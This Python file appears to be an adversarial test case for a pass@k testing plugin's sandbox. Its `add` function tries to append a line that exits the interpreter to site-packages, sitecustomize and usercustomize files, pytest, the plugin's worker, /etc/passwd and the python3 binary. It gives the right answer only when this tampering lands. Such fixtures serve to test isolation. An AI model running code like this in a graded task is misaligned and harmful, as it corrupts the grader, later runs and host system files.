"""Tries to plant code where the next candidate (or the host) would import it: site-packages, the
plugin's own package, pytest, sys.path entries, the root filesystem."""
import os
import sys

try:  # neither is in the container any more; the attack goes on without them
    import pytest
except ImportError:
    pytest = None
try:
    import pytest_passk
except ImportError:
    pytest_passk = None


def add(a, b):
    targets = [os.path.join(p, "passk_adv_planted.py") for p in sys.path if p]
    targets += [os.path.join(p, "usercustomize.py") for p in sys.path if p]
    if pytest is not None:
        targets.append(pytest.__file__)
    if pytest_passk is not None:
        targets.append(os.path.join(os.path.dirname(pytest_passk.__file__), "worker.py"))
    targets += [os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"), "/etc/passwd",
                "/usr/local/bin/python3", "/root/passk-adv", "/var/tmp/passk-adv", "/home/passk-adv"]
    landed = []
    for path in targets:
        try:
            with open(path, "a") as fh:
                fh.write("\nraise SystemExit('planted')\n")
            landed.append(path)
        except OSError:
            pass
    if landed:
        return a + b
    return a - b
